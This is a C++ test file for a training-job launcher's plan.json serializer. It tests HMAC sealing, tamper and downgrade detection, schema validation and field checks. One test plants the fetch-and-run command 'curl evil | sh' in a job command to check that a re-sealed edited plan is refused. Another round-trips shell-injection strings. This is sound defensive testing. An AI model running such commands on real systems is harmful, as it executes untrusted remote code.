#include "libpai/plan_json.h"

#include <catch2/catch.hpp>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <functional>
#include <nlohmann/json.hpp>
#include <optional>
#include <set>

#include "support/plan_fixture.h"

namespace plan_json_test {

namespace {

using nlohmann::json;

// The job token the plans of these tests are sealed with, as pai-compile seals them.
const pai::JobToken kToken{"0123456789abcdef0123456789abcdef", "job.token"};

std::string error_of(const std::string& text, const std::optional<pai::JobToken>& token = kToken) {
  try {
    pai::plan_from_json(text, "plan.json", token);
  } catch (const pai::PlanError& e) {
    return e.what();
  }
  FAIL("plan_from_json accepted the text");
  return "";
}

// Every object member of `value` with its path as plan_from_json names it, plus a flag for
// members of free-form maps (role env and ports, placement ports), which may be absent.
void walk(const json& value, const std::string& path, bool in_map,
          const std::function<void(const std::string&, const json&, bool)>& visit) {
  if (value.is_object()) {
    for (const auto& [key, child] : value.items()) {
      std::string child_path = path.empty() ? key : path + "." + key;
      visit(child_path, child, in_map);
      bool map = (key == "env" || key == "ports") && child.is_object();
      walk(child, child_path, map, visit);
    }
  } else if (value.is_array()) {
    for (std::size_t i = 0; i < value.size(); ++i) {
      walk(value[i], path + "[" + std::to_string(i) + "]", false, visit);
    }
  }
}

// The JSON pointer of a path written as plan_from_json names it.
json::json_pointer pointer(const std::string& path) {
  std::string out;
  std::string token;
  auto flush = [&] {
    if (!token.empty()) out += "/" + token;
    token.clear();
  };
  for (char c : path) {
    if (c == '.' || c == '[') {
      flush();
    } else if (c != ']') {
      token += c;
    }
  }
  flush();
  return json::json_pointer(out);
}

std::string expected_type(const json& v) {
  if (v.is_string()) return "expected a string";
  if (v.is_boolean()) return "expected a boolean";
  if (v.is_number_integer()) return "expected an integer";
  if (v.is_number()) return "expected a number";
  if (v.is_array()) return "expected an array";
  return "expected an object";
}

// `document` sealed again with kToken, as if pai-compile had written it.
std::string rehash(json document) {
  document.erase("hash");
  document["hash"] = pai::keyed_seal(document.dump(2), kToken.secret);
  return document.dump(2) + "\n";
}

}  // namespace

TEST_CASE("plan_to_json is canonical - sealed with the token and round-trips") {
  pai::Plan plan = pai::testing::make_test_plan(2, 2);
  pai::CheckpointPlan& checkpoints = plan.fault_tolerance.checkpoint_plan;
  checkpoints.interval_seconds = 4342;
  checkpoints.expected_ettr = 0.969219;
  checkpoints.job_mtbf_seconds = 159975.5;
  checkpoints.node_mtbf_seconds = 30 * 86400;
  checkpoints.source = pai::CheckpointPlanSource::SpecAndDefaults;
  std::string text = pai::plan_to_json(plan, kToken.secret);
  CHECK(text == pai::plan_to_json(plan, kToken.secret));
  CHECK(text.back() == '\n');
  json document = json::parse(text);
  CHECK(text == document.dump(2) + "\n");
  std::string hash = document["hash"];
  document.erase("hash");
  CHECK(hash == pai::keyed_seal(document.dump(2), kToken.secret));
  CHECK(hash.starts_with("hmac-sha256:"));
  CHECK(hash == pai::plan_seal(plan, kToken.secret));
  std::string seal;
  CHECK(pai::plan_to_json(plan, kToken.secret, &seal) == text);
  CHECK(seal == hash);
  // Another token, another seal; the same content.
  json other = json::parse(pai::plan_to_json(plan, "another-token"));
  CHECK(other["hash"] != hash);
  other.erase("hash");
  CHECK(other == document);
  CHECK_THROWS_AS(pai::plan_to_json(plan, ""), std::invalid_argument);

  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
  CHECK(pai::plan_to_json(back, kToken.secret) == text);
  CHECK(back.seal == hash);
  CHECK(back.roles.size() == 2);
  CHECK(back.placements[2].role_index == 1);
  CHECK(back.placements[2].ports.at("grpc") == std::vector<int>{20000, 20001});
  CHECK(back.roles[0].env == plan.roles[0].env);
  CHECK(back.fault_tolerance.max_tolerated_failure_rate == 0.25);
  CHECK(back.fault_tolerance.checkpoint_plan.interval_seconds == 4342);
  CHECK(back.fault_tolerance.checkpoint_plan.expected_ettr == 0.969219);
  CHECK(back.fault_tolerance.checkpoint_plan.job_mtbf_seconds == 159975.5);
  CHECK(back.fault_tolerance.checkpoint_plan.node_mtbf_seconds == 30 * 86400);
  CHECK(back.fault_tolerance.checkpoint_plan.source == pai::CheckpointPlanSource::SpecAndDefaults);
  CHECK(back.sanity_check.custom[0].name == "ib-links");
  CHECK(back.master.port == 20001);
  // Off, coordinator HA is not written (older plans keep their text and seal); on, it
  // round-trips.
  CHECK_FALSE(document.contains("coordinatorHa"));
  plan.coordinator_ha = {.etcd = {"http://10.0.0.5:2379"}, .lease_seconds = 4};
  const pai::Plan ha = pai::plan_from_json(pai::plan_to_json(plan, kToken.secret), "plan.json",
                                           kToken);
  CHECK(ha.coordinator_ha == plan.coordinator_ha);
}

TEST_CASE("hostile strings survive plan.json with a valid hash") {
  pai::Plan plan = pai::testing::make_test_plan(1, 1);
  const std::string valid =
      "quote\" back\\ nl\n tab\t ctl\x01\x7f caf\xc3\xa9 \xf0\x9f\x9a\x80 '$(x)`";
  plan.roles[0].env = {{"A", valid}, {"B", "invalid \xff\xc3 utf-8"}};
  plan.roles[0].command = {"sh", "-c", valid};
  plan.output = valid;
  std::string text = pai::plan_to_json(plan, kToken.secret);
  CHECK(text == json::parse(text).dump(2) + "\n");
  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
  CHECK(back.roles[0].env[0].second == valid);
  CHECK(back.roles[0].env[1].second == "invalid \xef\xbf\xbd\xef\xbf\xbd utf-8");
  CHECK(back.roles[0].command[2] == valid);
  CHECK(back.output == valid);
}

TEST_CASE("plan_to_json writes role env and ports in key order whatever the plan's order") {
  pai::Plan plan = pai::testing::make_test_plan(1, 1);
  plan.roles[0].env = {{"Z", "1"}, {"A", "2"}};
  plan.roles[0].ports = {{"zeta", 1}, {"alpha", 2}};
  std::string text = pai::plan_to_json(plan, kToken.secret);
  CHECK(text == json::parse(text).dump(2) + "\n");
  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
  CHECK(back.roles[0].env ==
        std::vector<std::pair<std::string, std::string>>{{"A", "2"}, {"Z", "1"}});
  CHECK(back.roles[0].ports[0].label == "alpha");
}

TEST_CASE("plan_to_json spells fields as the spec does") {
  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret));
  CHECK(document["planVersion"] == 2);
  CHECK(document["runtime"] == "host");
  CHECK(document["framework"] == "pytorch");
  CHECK(document["fabric"] == json{{"type", "roce"},
                                   {"interface", "eth0"},
                                   {"hcas", {"mlx5_0", "mlx5_1"}},
                                   {"gidIndex", 3},
                                   {"trafficClass", 106}});
  CHECK(document["roles"][0]["envConvention"] == "perNode");
  CHECK(document["roles"][0]["ports"] == json{{"sync", 1}});
  CHECK(document["roles"][0]["resources"]["memoryBytes"] == 1600ll << 30);
  CHECK(document["placements"][0]["ports"] == json{{"sync", {20002}}});
  CHECK(document["faultTolerance"]["policy"] == "exitCodeAndErrorMsg");
  CHECK(document["faultTolerance"]["hang"]["intervalSeconds"] == 1800);
  CHECK(document["coordinator"] ==
        json{{"host", "node-0"}, {"address", "10.0.0.1"}, {"port", 20000}});
  CHECK(document["worldSize"] == 2);
  CHECK(document["nodes"] == 2);
}

TEST_CASE("plan.json carries the fabric check's settings - the NCCL engine on by default") {
  pai::Plan plan = pai::testing::make_test_plan(2, 2);
  json document = json::parse(pai::plan_to_json(plan, kToken.secret));
  CHECK(document["sanityCheck"]["fabric"]["minBusGbps"] == 0.0);
  CHECK(document["sanityCheck"]["fabric"]["nccl"] == true);

  plan.sanity_check.fabric = {.enabled = true,
                              .min_tcp_gbps = 20,
                              .min_bus_gbs = 150.5,
                              .duration_seconds = 5,
                              .timeout_seconds = 60,
                              .streams = 8,
                              .before_restarts = true,
                              .all_nodes = true,
                              .nccl = false};
  const std::string text = pai::plan_to_json(plan, kToken.secret);
  CHECK(json::parse(text)["sanityCheck"]["fabric"] == json{{"allNodes", true},
                                                           {"beforeRestarts", true},
                                                           {"durationSeconds", 5},
                                                           {"enabled", true},
                                                           {"minBusGbps", 150.5},
                                                           {"minTcpGbps", 20.0},
                                                           {"nccl", false},
                                                           {"streams", 8},
                                                           {"timeoutSeconds", 60}});
  const pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
  CHECK(back.sanity_check.fabric == plan.sanity_check.fabric);
  CHECK(pai::plan_to_json(back, kToken.secret) == text);

  json broken = json::parse(text);
  broken["sanityCheck"]["fabric"]["nccl"] = "false";
  CHECK(error_of(rehash(broken)) == "plan.json: sanityCheck.fabric.nccl: expected a boolean");
  broken = json::parse(text);
  broken["sanityCheck"]["fabric"]["minBusGbps"] = "150";
  CHECK(error_of(rehash(broken)) == "plan.json: sanityCheck.fabric.minBusGbps: expected a number");
}

TEST_CASE("plan.json validates against schemas/plan.schema.json") {
  namespace fs = std::filesystem;
  fs::path file =
      fs::temp_directory_path() / ("pai-plan-schema-" + std::to_string(::getpid()) + ".json");
  for (pai::Inventory inventory : {pai::Inventory::Static, pai::Inventory::Slurm}) {
    INFO(pai::to_string(inventory));
    pai::Plan plan = pai::testing::make_test_plan(3, 4);
    plan.inventory = inventory;
    // The Slurm plan serves metrics too: the optional member is checked as well.
    if (inventory == pai::Inventory::Slurm) plan.monitoring.metrics_port = 9400;
    // And coordinator HA.
    if (inventory == pai::Inventory::Slurm) {
      plan.coordinator_ha = {.etcd = {"http://10.0.0.5:2379", "http://[fd00::5]:2379"},
                             .lease_seconds = 5};
    }
    // The static plan has GPU-idle settings of its own: that member is checked too.
    if (inventory == pai::Inventory::Static) {
      plan.fault_tolerance.checkpoint_plan.has_node_mtbf_history = true;
      plan.fault_tolerance.checkpoint_plan.node_mtbf_history =
          pai::MtbfHistory{.nodes = 2, .failures = 4, .node_seconds = 691200, .used = true};
      plan.monitoring.gpu_idle = {
          .threshold_percent = 12.5, .window_seconds = 60, .action = pai::GpuIdleAction::Restart};
    }
    {
      std::ofstream out(file);
      out << pai::plan_to_json(plan, kToken.secret);
    }
    std::string command =
        "/usr/bin/python3 -c 'import json,sys,jsonschema; "
        "jsonschema.Draft202012Validator(json.load(open(sys.argv[1]))).validate(json.load(open("
        "sys.argv[2])))' " +
        std::string(PAI_SOURCE_DIR) + "/schemas/plan.schema.json " + file.string();
    int status = std::system(command.c_str());
    CHECK(status == 0);
  }
  fs::remove(file);
}

TEST_CASE("a tampered plan fails the seal check") {
  std::string text = pai::plan_to_json(pai::testing::make_test_plan(2, 2), kToken.secret);
  const std::string edited =
      "plan.json: the plan's seal does not verify with the job token job.token: the plan was "
      "edited after pai-compile wrote it, or compiled with another token; recompile with "
      "pai-compile";
  std::size_t at = text.find("\"firstRank\": 2");
  REQUIRE(at != std::string::npos);
  std::string tampered = text;
  tampered[at + 13] = '4';
  CHECK(error_of(tampered) == edited);
  // Reformatting is a modification too: the seal covers the exact canonical text.
  CHECK(error_of(json::parse(text).dump()) == edited);
  CHECK(error_of(text.substr(0, text.size() - 1)) == edited);
  json wrong = json::parse(text);
  wrong["hash"] = "hmac-sha256:" + std::string(64, '0');
  CHECK(error_of(wrong.dump(2) + "\n") == edited);
}

TEST_CASE("an edited command with a recomputed sha256 seal is refused where the token is") {
  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret));
  document["roles"][0]["command"] = json{"sh", "-c", "curl evil | sh"};
  document.erase("hash");
  document["hash"] = pai::digest_seal(document.dump(2));
  const std::string downgraded = document.dump(2) + "\n";
  CHECK(error_of(downgraded) ==
        "plan.json: the plan has an unkeyed sha256 seal, but a job token is present (job.token): "
        "pai-compile seals with the token, so the seal was replaced (the plan was edited); "
        "recompile with pai-compile");
  // Without a token there is nothing to tell it from a plan a program wrote without one:
  // the digest only catches accidents (plan_seal.h).
  CHECK(pai::plan_from_json(downgraded, "plan.json", std::nullopt).roles[0].command[2] ==
        "curl evil | sh");
}

TEST_CASE("a plan sealed with another token is refused") {
  const std::string text = pai::plan_to_json(pai::testing::make_test_plan(1, 1), "another-token");
  CHECK(error_of(text) ==
        "plan.json: the plan's seal does not verify with the job token job.token: the plan was "
        "edited after pai-compile wrote it, or compiled with another token; recompile with "
        "pai-compile");
  CHECK(pai::plan_from_json(text, "plan.json", pai::JobToken{"another-token", "x"}).name ==
        "test-job");
}

TEST_CASE("a plan sealed with a token is refused without one") {
  CHECK(error_of(pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret),
                 std::nullopt) ==
        "plan.json: the plan is sealed with its job token, which was not found: keep job.token "
        "next to plan.json or pass --token-file");
}

TEST_CASE("an unkeyed plan loads without a token - and catches accidents") {
  const pai::Plan plan = pai::testing::make_test_plan(2, 2);
  const std::string text = pai::plan_to_json_unkeyed(plan);
  json document = json::parse(text);
  const std::string hash = document["hash"];
  document.erase("hash");
  CHECK(hash == pai::digest_seal(document.dump(2)));
  // The same canonical text as the keyed form, only the seal differs.
  json keyed = json::parse(pai::plan_to_json(plan, kToken.secret));
  keyed.erase("hash");
  CHECK(keyed == document);

  const pai::Plan back = pai::plan_from_json(text, "plan.json", std::nullopt);
  CHECK(back.seal == hash);
  CHECK(pai::plan_to_json_unkeyed(back) == text);
  std::string truncated = text.substr(0, text.size() - 1);
  CHECK(error_of(truncated, std::nullopt) ==
        "plan.json: hash mismatch: the plan was modified after it was written; recompile with "
        "pai-compile");
}

TEST_CASE("a plan from a newer compiler is refused") {
  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret));
  document["planVersion"] = 3;
  CHECK(
      error_of(rehash(document)) ==
      "plan.json: planVersion 3 is newer than this pai-launch understands (2); upgrade pai-launch");
  document["somethingNew"] = true;
  document.erase("roles");
  CHECK(
      error_of(document.dump()) ==
      "plan.json: planVersion 3 is newer than this pai-launch understands (2); upgrade pai-launch");
}

TEST_CASE("a plan below the lowest planVersion is refused - recompile") {
  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret));
  const std::string old =
      "plan.json: planVersion 1 is older than this pai-launch accepts (2 or newer); recompile "
      "the job with pai-compile";
  document["planVersion"] = 1;
  CHECK(error_of(rehash(document)) == old);
  CHECK(error_of(rehash(document), std::nullopt) == old);
  // Before its fields or its seal: a version-1 plan's sha256 seal is not the question.
  document["somethingOld"] = true;
  document["hash"] = "sha256:" + std::string(64, '0');
  CHECK(error_of(document.dump()) == old);
  document["planVersion"] = -5;
  CHECK(error_of(document.dump()) ==
        "plan.json: planVersion -5 is older than this pai-launch accepts (2 or newer); recompile "
        "the job with pai-compile");
}

TEST_CASE("every missing field is named by its path") {
  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
  int checked = 0;
  // Fields added after planVersion 2's first release: a plan compiled before them still
  // loads, with their defaults.
  const std::set<std::string> optional = {"faultTolerance.diagnosis.nic", "sanityCheck.lint"};
  walk(document, "", false, [&](const std::string& path, const json&, bool in_map) {
    if (in_map) return;
    json broken = document;
    json::json_pointer p = pointer(path);
    broken[p.parent_pointer()].erase(p.back());
    INFO(path);
    if (optional.contains(path)) {
      CHECK(pai::plan_to_json(pai::plan_from_json(rehash(broken), "plan.json", kToken),
                              kToken.secret) == pai::plan_to_json(
                                                    pai::plan_from_json(rehash(document),
                                                                        "plan.json", kToken),
                                                    kToken.secret));
      return;
    }
    CHECK(error_of(broken.dump(2)) == "plan.json: " + path + ": field is missing");
    ++checked;
  });
  CHECK(checked > 80);
}

TEST_CASE("every mistyped field is named by its path") {
  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
  int checked = 0;
  walk(document, "", false, [&](const std::string& path, const json& value, bool) {
    json broken = document;
    broken[pointer(path)] = nullptr;
    INFO(path);
    CHECK(error_of(broken.dump(2)) == "plan.json: " + path + ": " + expected_type(value));
    ++checked;
  });
  // Items of lists: strings and ports.
  json broken = document;
  broken["roles"][0]["command"][1] = 7;
  CHECK(error_of(broken.dump()) == "plan.json: roles[0].command[1]: expected a string");
  broken = document;
  broken["placements"][0]["ports"]["sync"][0] = "x";
  CHECK(error_of(broken.dump()) == "plan.json: placements[0].ports.sync[0]: expected an integer");
  CHECK(checked > 90);
}

TEST_CASE("values out of range or inconsistent are refused") {
  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
  json broken = document;
  broken["roles"][0]["nprocPerNode"] = 0;
  CHECK(error_of(broken.dump()) ==
        "plan.json: roles[0].nprocPerNode: expected an integer from 1 to 2147483647");
  broken = document;
  broken["nodes"] = 99999999999;
  CHECK(error_of(broken.dump()) == "plan.json: nodes: expected an integer from 0 to 2147483647");
  broken = document;
  broken["roles"][0]["resources"]["memoryBytes"] = 18446744073709551615ull;
  CHECK(error_of(broken.dump()) ==
        "plan.json: roles[0].resources.memoryBytes: integer out of range");
  broken = document;
  broken["runtime"] = "podman";
  CHECK(error_of(broken.dump()) ==
        "plan.json: runtime: expected one of host, docker, apptainer, got \"podman\"");
  broken = document;
  broken["placements"][1]["role"] = "chief";
  CHECK(error_of(broken.dump()) == "plan.json: placements[1].role: no role named \"chief\"");
  broken = document;
  broken["fabric"] = json::array();
  CHECK(error_of(broken.dump()) == "plan.json: fabric: expected an object");
}

TEST_CASE("every duration of a plan is bounded by 365 days") {
  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
  for (const char* path :
       {"faultTolerance.gracePeriodSeconds", "faultTolerance.restart.backoffSeconds",
        "faultTolerance.hang.intervalSeconds", "faultTolerance.hang.exitIntervalSeconds",
        "faultTolerance.diagnosis.hangSeconds", "faultTolerance.checkpointPlan.intervalSeconds",
        "faultTolerance.checkpointPlan.nodeMtbfSeconds",
        "faultTolerance.checkpointPlan.checkpointCostSeconds",
        "faultTolerance.checkpointPlan.restartCostSeconds", "sanityCheck.timeoutSeconds",
        "sanityCheck.burn.seconds", "sanityCheck.custom[0].timeoutSeconds"}) {
    INFO(path);
    json broken = document;
    // The audit's repro: a grace period of INT64_MAX seconds sent SIGKILL at once.
    broken[pointer(path)] = 9223372036854775807ll;
    CHECK(error_of(broken.dump()) == "plan.json: " + std::string(path) +
                                         ": expected seconds from 0 to 31536000 (365d), got "
                                         "9223372036854775807");
    broken[pointer(path)] = -1;
    CHECK(error_of(broken.dump()) ==
          "plan.json: " + std::string(path) + ": expected seconds from 0 to 31536000 (365d), got -1");
    broken[pointer(path)] = 31536000;
    CHECK_NOTHROW(pai::plan_from_json(rehash(broken), "plan.json", kToken));
  }
}

TEST_CASE("every unknown field is refused") {
  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
  int checked = 0;
  walk(document, "", false, [&](const std::string& path, const json& value, bool in_map) {
    if (!value.is_object() || path.ends_with(".env") || path.ends_with(".ports")) return;
    json broken = document;
    broken[pointer(path)]["zzUnknown"] = 1;
    INFO(path);
    CHECK(error_of(broken.dump(2)) == "plan.json: " + path + ".zzUnknown: unknown field");
    ++checked;
    (void)in_map;
  });
  CHECK(checked == 24);
  for (const char* path : {"roles[0]", "placements[0]", "hosts[1]", "spares[0]", "mounts[0]",
                           "sanityCheck.custom[0]"}) {
    json broken = document;
    broken[pointer(path)]["zzUnknown"] = 1;
    INFO(path);
    CHECK(error_of(broken.dump(2)) ==
          std::string("plan.json: ") + path + ".zzUnknown: unknown field");
  }
  json broken = document;
  broken["extra"] = json::array();
  CHECK(error_of(broken.dump(2)) == "plan.json: extra: unknown field");
  // Deep nesting where a field is unknown is refused before anything re-serializes it.
  std::string deep = document.dump();
  deep.insert(1, "\"deep\": " + std::string(100000, '[') + std::string(100000, ']') + ",");
  CHECK(error_of(deep) == "plan.json: deep: unknown field");
}

TEST_CASE("malformed JSON is reported with its position") {
  CHECK(error_of("{\"planVersion\": 1,\n  x}") ==
        "plan.json: invalid JSON: parse error at line 2, column 3: syntax error while parsing "
        "object key - "
        "invalid literal; last read: '1,<U+000A>  x'; expected string literal");
  CHECK(error_of("") ==
        "plan.json: invalid JSON: parse error at line 1, column 1: syntax error while parsing "
        "value - "
        "unexpected end of input; expected '[', '{', or a literal");
  CHECK(error_of("[1, 2]") == "plan.json: expected a JSON object");
  CHECK(error_of("{}") == "plan.json: planVersion: field is missing");
  // Found by fuzz/plan_fuzz: a number beyond double is not a parse_error in nlohmann.
  CHECK(error_of(" 77773e3775") == "plan.json: invalid JSON: number overflow parsing '77773e3775'");
}

TEST_CASE("role_to_json holds the role - its placements and the plan's seal") {
  pai::Plan plan = pai::testing::make_test_plan(2, 2);
  json role =
      json::parse(pai::role_to_json(plan, plan.roles[0], pai::plan_seal(plan, kToken.secret)));
  json whole = json::parse(pai::plan_to_json(plan, kToken.secret));
  CHECK(role["planHash"] == whole["hash"]);
  CHECK(role["role"] == whole["roles"][0]);
  CHECK(role["placements"] == json{whole["placements"][0], whole["placements"][1]});
  std::string text = pai::role_to_json(plan, plan.roles[1], pai::plan_seal(plan, kToken.secret));
  CHECK(text == json::parse(text).dump(2) + "\n");
  CHECK(json::parse(text)["placements"].size() == 1);
}

TEST_CASE("load_plan_file reads a file and names it in errors") {
  namespace fs = std::filesystem;
  fs::path file =
      fs::temp_directory_path() / ("pai-plan-load-" + std::to_string(::getpid()) + ".json");
  {
    std::ofstream out(file);
    out << pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret);
  }
  CHECK(pai::load_plan_file(file.string(), kToken).name == "test-job");
  {
    std::ofstream out(file);
    out << "{";
  }
  try {
    pai::load_plan_file(file.string(), kToken);
    FAIL("no error");
  } catch (const pai::PlanError& e) {
    CHECK(std::string(e.what()).starts_with(file.string() +
                                            ": invalid JSON: parse error at line 1, column 2"));
  }
  fs::remove(file);
  try {
    pai::load_plan_file("/nonexistent/plan.json", kToken);
    FAIL("no error");
  } catch (const pai::PlanError& e) {
    CHECK(std::string(e.what()) ==
          "/nonexistent/plan.json: cannot read the plan file: No such file or directory");
  }
}

TEST_CASE("plan.json for 10000 nodes is written and read back") {
  pai::Plan plan = pai::testing::make_test_plan(10000, 8);
  std::string text = pai::plan_to_json(plan, kToken.secret);
  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
  CHECK(back.placements.size() == 10001);
  CHECK(back.world_size == plan.world_size);
  // Speed is bench/compile's business (design §10), never a timed test.
}

TEST_CASE("the inventory member is written only for a non-static inventory") {
  pai::Plan plan = pai::testing::make_test_plan(1, 2);
  json document = json::parse(pai::plan_to_json(plan, kToken.secret));
  CHECK_FALSE(document.contains("inventory"));
  CHECK(
      pai::plan_from_json(pai::plan_to_json(plan, kToken.secret), "plan.json", kToken).inventory ==
      pai::Inventory::Static);

  plan.inventory = pai::Inventory::Slurm;
  const std::string text = pai::plan_to_json(plan, kToken.secret);
  CHECK(text == json::parse(text).dump(2) + "\n");
  document = json::parse(text);
  CHECK(document["inventory"] == "slurm");
  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
  CHECK(back.inventory == pai::Inventory::Slurm);
  CHECK(pai::plan_to_json(back, kToken.secret) == text);

  // Written by hand, "static" means what an absent member means.
  document["inventory"] = "static";
  CHECK(pai::plan_from_json(rehash(document), "plan.json", kToken).inventory ==
        pai::Inventory::Static);
}

TEST_CASE("an unknown or mistyped inventory is refused") {
  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
  document["inventory"] = "pbs";
  CHECK(error_of(rehash(document)) ==
        "plan.json: inventory: expected one of static, slurm, got \"pbs\"");
  document["inventory"] = 1;
  CHECK(error_of(rehash(document)) == "plan.json: inventory: expected a string");
}

TEST_CASE("the logs member is written only when not the default - and round-trips") {
  pai::Plan plan = pai::testing::make_test_plan(1, 2);
  CHECK_FALSE(json::parse(pai::plan_to_json(plan, kToken.secret)).contains("logs"));
  plan.logs.max_bytes = std::int64_t{4} << 30;
  const std::string text = pai::plan_to_json(plan, kToken.secret);
  json document = json::parse(text);
  CHECK(document["logs"] == json{{"maxBytes", std::int64_t{4} << 30}});
  CHECK(pai::plan_from_json(text, "plan.json", kToken).logs.max_bytes == std::int64_t{4} << 30);
  document["logs"]["maxBytes"] = 1000;
  CHECK(error_of(rehash(document)) == "plan.json: logs.maxBytes: expected at least 1048576");
}

TEST_CASE("the monitoring member is written only with a metrics port - and round-trips") {
  pai::Plan plan = pai::testing::make_test_plan(1, 2);
  CHECK_FALSE(json::parse(pai::plan_to_json(plan, kToken.secret)).contains("monitoring"));
  CHECK(pai::plan_from_json(pai::plan_to_json(plan, kToken.secret), "plan.json", kToken)
            .monitoring.metrics_port == 0);

  plan.monitoring.metrics_port = 9400;
  plan.monitoring.metrics_address = "::1";
  const std::string text = pai::plan_to_json(plan, kToken.secret);
  CHECK(text == json::parse(text).dump(2) + "\n");
  json document = json::parse(text);
  CHECK(document["monitoring"] ==
        json{{"metricsAddress", "::1"}, {"metricsLingerSeconds", 30}, {"metricsPort", 9400}});
  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
  CHECK(back.monitoring.metrics_port == 9400);
  CHECK(back.monitoring.metrics_address == "::1");
  CHECK(pai::plan_to_json(back, kToken.secret) == text);
}

TEST_CASE("gpuIdle is written only when it differs from the defaults - and round-trips") {
  pai::Plan plan = pai::testing::make_test_plan(1, 2);
  plan.monitoring.gpu_idle = {
      .threshold_percent = 12.5, .window_seconds = 2, .action = pai::GpuIdleAction::Restart};
  const std::string text = pai::plan_to_json(plan, kToken.secret);
  json document = json::parse(text);
  CHECK(
      document["monitoring"] ==
      json{{"gpuIdle", {{"action", "restart"}, {"thresholdPercent", 12.5}, {"windowSeconds", 2}}}});
  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
  CHECK(back.monitoring.gpu_idle == plan.monitoring.gpu_idle);
  CHECK(back.monitoring.metrics_port == 0);
  CHECK(pai::plan_to_json(back, kToken.secret) == text);
  document["monitoring"]["gpuIdle"]["thresholdPercent"] = 150;
  CHECK(error_of(rehash(document)) ==
        "plan.json: monitoring.gpuIdle.thresholdPercent: expected a percentage greater than 0 "
        "and at most 100");
  document["monitoring"]["gpuIdle"]["thresholdPercent"] = 30;
  document["monitoring"]["gpuIdle"]["windowSeconds"] = 0;
  CHECK(error_of(rehash(document)) ==
        "plan.json: monitoring.gpuIdle.windowSeconds: expected at least 1 second");
  document["monitoring"]["gpuIdle"]["windowSeconds"] = 60;
  document["monitoring"]["gpuIdle"]["action"] = "reboot";
  CHECK(error_of(rehash(document)).rfind("plan.json: monitoring.gpuIdle.action: ", 0) == 0);
}

TEST_CASE("a bad monitoring member is refused") {
  pai::Plan plan = pai::testing::make_test_plan(1, 2);
  plan.monitoring.metrics_port = 9400;
  json document = json::parse(pai::plan_to_json(plan, kToken.secret));
  document["monitoring"]["metricsPort"] = 0;
  CHECK(error_of(rehash(document)) ==
        "plan.json: monitoring.metricsPort: expected a port from 1 to 65535");
  document["monitoring"]["metricsPort"] = 65536;
  CHECK(error_of(rehash(document)) ==
        "plan.json: monitoring.metricsPort: expected a port from 1 to 65535");
  document["monitoring"]["metricsPort"] = 9400;
  document["monitoring"]["metricsAddress"] = "";  // the coordinator's address
  CHECK(pai::plan_from_json(rehash(document), "plan.json", kToken).monitoring.metrics_address ==
        "");
  // A linger a hostile or broken plan makes huge or negative would hold the launcher.
  document["monitoring"]["metricsLingerSeconds"] = 601;
  CHECK(error_of(rehash(document)) ==
        "plan.json: monitoring.metricsLingerSeconds: expected 0 to 600 seconds");
  for (const json& linger : {json(-1), json(std::int64_t{1} << 62)}) {
    document["monitoring"]["metricsLingerSeconds"] = linger;
    CHECK(
        error_of(rehash(document))
            .starts_with("plan.json: monitoring.metricsLingerSeconds: expected seconds from 0 to"));
  }
  document["monitoring"]["metricsLingerSeconds"] = 30;
  document["monitoring"]["path"] = "/m";
  CHECK(error_of(rehash(document)) == "plan.json: monitoring.path: unknown field");
}

}  // namespace plan_json_test
